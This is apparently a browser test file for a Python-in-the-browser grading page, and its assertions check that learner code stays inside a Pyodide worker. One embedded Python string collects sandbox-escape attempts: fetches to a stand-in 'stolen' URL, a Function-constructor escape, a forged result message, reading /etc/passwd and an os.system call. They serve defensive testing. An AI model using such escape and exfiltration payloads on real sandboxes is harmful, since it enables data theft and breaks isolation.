// The page's Python mode in real headless Chromium, offline: CPython
// (Pyodide) and the checker's Python harness load from the page's own
// origin, the notebook's reference solution passes, a typical bug is blamed
// on the right function, an endless loop costs one deadline, and escape
// attempts from the learner's Python change nothing outside the worker.
// Every request is recorded; none may leave the origin.
import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { beforeAll, describe, expect, it } from 'vitest';
import { bugVariant } from '../cli/python/bugs.js';
import { openPage, runCode, useServedPage } from '../helpers/browser.js';

const learner = (name) => readFileSync(new URL(`../cli/python/${name}`, import.meta.url), 'utf8');
const REFERENCE = learner('reference.py');
const OVERWRITE = bugVariant('overwrite');
// get_output_shape loops; maxpool2d and the classes call it.
const ENDLESS = REFERENCE.replace(/^def get_output_shape\(.*\n/m, '$&    while True:\n        pass\n');
const NAMES = ['get_output_shape', 'maxpool2d', 'MaxPooling_.forward', 'MaxPooling_.backprop_yx', 'MaxPooling.backward_input', 'AvgPooling.forward', 'AvgPooling.backward_input'];
const BUDGET_MS = 20_000; // per function, via ?codeTimeout (pure-Python NumPy is slow on a shared CPU)
const ENDLESS_BUDGET_MS = 6_000;
const OUTSIDE = 'http://127.0.0.1:9/stolen';

// Each line tries a way out of the worker; every attempt is caught, so the
// solution below it must be judged as if they were not there.
const ESCAPES = `
import sys
attempts = []
def attempt(name, thunk):
    try:
        attempts.append((name, repr(thunk())[:40]))
    except BaseException as error:
        attempts.append((name, type(error).__name__))

attempt('js.fetch', lambda: __import__('js').fetch('${OUTSIDE}?js'))
attempt('js.document', lambda: setattr(__import__('js').document, 'title', 'pwned'))
attempt('js.postMessage', lambda: __import__('js').postMessage({'type': 'result', 'id': 1, 'ok': True}))
attempt('pyodide_js', lambda: __import__('pyodide_js')._module)
attempt('run_js', lambda: __import__('pyodide.code', fromlist=['run_js']).run_js("fetch('${OUTSIDE}?run_js')"))
def through_constructor():
    from pyodide.ffi import create_proxy
    make = create_proxy(len).constructor.constructor
    return make("return fetch('${OUTSIDE}?constructor')")()
attempt('Function', through_constructor)
def through_bridge():
    import _poolgrad_bridge
    return _poolgrad_bridge.compute.constructor("return self")().fetch('${OUTSIDE}?bridge')
attempt('bridge', through_bridge)
attempt('open', lambda: open('/etc/passwd').read())
attempt('os.system', lambda: __import__('os').system('touch /tmp/poolgrad-escaped'))
attempt('urllib', lambda: __import__('urllib.request', fromlist=['urlopen']).urlopen('${OUTSIDE}?urllib'))
print(attempts)
`;

const served = useServedPage();
let origin;
let page;
let problems;
const requests = [];

beforeAll(async () => {
  origin = served.origin;
  // Every request of the page and its workers passes the route; any other origin is refused.
  const route = (request) => {
    const url = request.request().url();
    requests.push(url);
    return url.startsWith(origin) ? request.continue() : request.abort('blockedbyclient');
  };
  ({ page, log: { errors: problems } } = await openPage(served.browser, `${origin}?codeTimeout=${BUDGET_MS}`, { recordCsp: true, route, serviceWorkers: 'block' }));
}, 60_000);

const runWith = (code) => runCode(page, code, { timeout: 400_000 });

describe('python mode', () => {
  it('opens_as_the_default_language_with_the_notebook_cells_and_gaps', async () => {
    const before = requests.length;
    await page.click('#code-mode-toggle');
    await page.waitForFunction(() => document.querySelector('textarea[data-code]')?.value.includes('def get_output_shape'));
    expect(await page.inputValue('[data-code-language]')).toBe('python');
    const template = await page.inputValue('textarea[data-code]');
    expect(template).toContain('import tui_dl4cv.cnn');
    expect(template).toContain('        h_out, w_out = ...  # bitte Code ergaenzen <---------------- [Luecke (8)]');
    expect(template).toContain('                        ...  # bitte Code ergaenzen <---------------- [Luecke (18)]');
    expect(template).not.toContain('+=grad_value');
    expect(await page.getAttribute('input[type=file][data-notebook]', 'accept')).toContain('.ipynb');
    // Opening Python mode is what loads CPython (lazily, same-origin).
    await page.waitForFunction(() => performance.getEntriesByType('resource').length > 0);
    expect(requests.slice(before).some((u) => u.endsWith('/app/code-panel.js'))).toBe(true);
  }, 60_000);

  it('reference_solution_passes_every_function', async () => {
    const results = await runWith(REFERENCE);
    expect(results.map((r) => r.name)).toEqual(NAMES);
    expect(results.filter((r) => r.state !== 'pass')).toEqual([]);
    expect(await page.getAttribute('[data-code-summary]', 'data-state')).toBe('pass');
  }, 600_000);

  // The escape attempts run before a buggy solution rather than the right
  // one: besides the page's title and its requests, a forged result message
  // would then show as a pass of the function the bug fails.
  it('overwrite_instead_of_add_is_blamed_on_backward_input_in_german_and_escape_attempts_before_it_change_nothing_outside_the_worker', async () => {
    const title = await page.title();
    const results = await runWith(`${ESCAPES}\n${OVERWRITE}`);
    expect(results.map((r) => r.name)).toEqual(NAMES);
    expect(results.filter((r) => r.state !== 'pass').map((r) => r.name)).toEqual(['MaxPooling.backward_input']);
    const blamed = results.find((r) => r.name === 'MaxPooling.backward_input');
    expect(blamed.state).toBe('fail');
    expect(blamed.mistake).toBe('overwrite-not-add');
    expect(blamed.failure).toContain('erwartet:');
    expect(blamed.failure).toContain('layer.backward_input(gradOutput)');
    expect(blamed.failure).not.toMatch(/\bexpected\b|\bactual\b/);
    expect(await page.title()).toBe(title);
    expect(requests.filter((u) => u.includes('stolen'))).toEqual([]);
  }, 600_000);

  it('endless_loop_in_get_output_shape_is_stopped_once_and_its_callers_fail_at_once', async () => {
    expect(ENDLESS).not.toBe(REFERENCE);
    // The page reads ?codeTimeout at each run, so this run alone gets a
    // shorter deadline: it only bounds the loop, since every caller of
    // get_output_shape fails at once without running.
    const budget = (ms) => page.evaluate((value) => {
      const url = new URL(location.href);
      url.searchParams.set('codeTimeout', String(value));
      history.replaceState(history.state, '', url);
    }, ms);
    await budget(ENDLESS_BUDGET_MS);
    let results;
    try {
      results = await runWith(ENDLESS);
    } finally {
      await budget(BUDGET_MS);
    }
    const byName = Object.fromEntries(results.map((r) => [r.name, r]));
    expect(byName.get_output_shape.state).toBe('timeout');
    expect(byName.get_output_shape.failure).toContain(`${ENDLESS_BUDGET_MS / 1000} s`);
    const callers = results.filter((r) => r.name !== 'get_output_shape');
    expect(callers.filter((r) => r.state === 'timeout').map((r) => r.name)).toEqual([]);
    for (const r of callers.filter((c) => c.state !== 'pass')) {
      expect(r.state).toBe('error');
      expect(r.failure).toContain('get_output_shape ist in der eigenen Prüfung nicht fertig geworden');
    }
    expect(byName.maxpool2d.state).toBe('error');
  }, 600_000);

  it('a_huge_allocation_fails_that_function_only_and_the_checker_lives_on', async () => {
    const lines = REFERENCE.split('\n');
    const at = lines.findLastIndex((l) => l.includes('def backward_input'));
    lines.splice(at + 1, 0, '        hoard = [0.0] * 10**9');
    const results = await runWith(lines.join('\n'));
    const failed = results.filter((r) => r.state !== 'pass');
    expect(failed.map((r) => r.name)).toEqual(['AvgPooling.backward_input']);
    expect(failed[0].state).toBe('error');
    expect(failed[0].failure).toContain('MemoryError');
  }, 600_000);

  it('syntax_error_names_line_and_column_and_an_opened_notebook_fills_the_editor', async () => {
    const lines = REFERENCE.split('\n');
    const at = lines.findIndex((l) => l.includes('def get_output_shape'));
    const broken = '    h_out = (1 +';
    lines.splice(at + 1, 0, broken);
    await runWith(lines.join('\n'));
    expect(await page.getAttribute('[data-code-summary]', 'data-state')).toBe('invalid');
    expect(await page.textContent('[data-code-summary]')).toContain('keine der Funktionen get_output_shape');
    // the harness's notes are worded in the page's language
    expect(await page.textContent('[data-code-notes]')).toMatch(new RegExp(`notebook\\.py: SyntaxError: .* \\(Zeile ${at + 2}, Spalte \\d+\\); diese Zelle wurde nicht ausgeführt`));

    await page.setInputFiles('input[type=file][data-notebook]', fileURLToPath(new URL('../cli/python/reference.ipynb', import.meta.url)));
    await page.waitForFunction(() => document.querySelector('textarea[data-code]').value.includes('+=grad_value'));
    expect(await page.textContent('#code-note')).toContain('reference.ipynb geladen: 17 Code-Zellen');
    expect(await page.inputValue('textarea[data-code]')).toContain('import torch.nn.functional as F');
    // The whole notebook as written (the !pip line, tui_dl4cv, the check and PyTorch cells) passes,
    // and what its cells printed is judged too.
    await page.click('button[data-code-run]');
    await page.waitForSelector('[data-code-summary][data-state]', { timeout: 400_000 });
    expect(await page.getAttribute('[data-code-summary]', 'data-state')).toBe('pass');
    expect(await page.textContent('[data-code-notes]')).toMatch(/Hinweise[^\n]*\n  - notebook\.py: Zeile \d+: IPython-Zeile !\{sys\.executable\}.* übersprungen/);
    const printed = await page.textContent('[data-code-printed]');
    expect(printed).toContain('o_0.grad');
    expect(printed).not.toContain('✘');
    await page.setInputFiles('input[type=file][data-notebook]', { name: 'kaputt.ipynb', mimeType: 'application/json', buffer: Buffer.from('{"cells": [') });
    await page.waitForFunction(() => document.querySelector('#code-note').textContent.includes('kaputt.ipynb'));
    expect(await page.textContent('#code-note')).toContain('kaputt.ipynb ist kein lesbares Notebook: kein gültiges JSON');
    expect(await page.inputValue('textarea[data-code]')).toContain('+=grad_value'); // the editor kept the last good text
  }, 600_000);

  it('nothing_left_the_origin_and_the_page_csp_holds_no_unsafe_eval', async () => {
    expect(requests.filter((u) => !u.startsWith(origin))).toEqual([]);
    expect(requests.some((u) => u.endsWith('/vendor/pyodide/pyodide.asm.wasm'))).toBe(true);
    const csp = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
    expect(csp).not.toContain("'unsafe-eval'");
    expect(await page.evaluate(() => window.__csp)).toEqual([]);
    expect(problems).toEqual([]);
  });
});
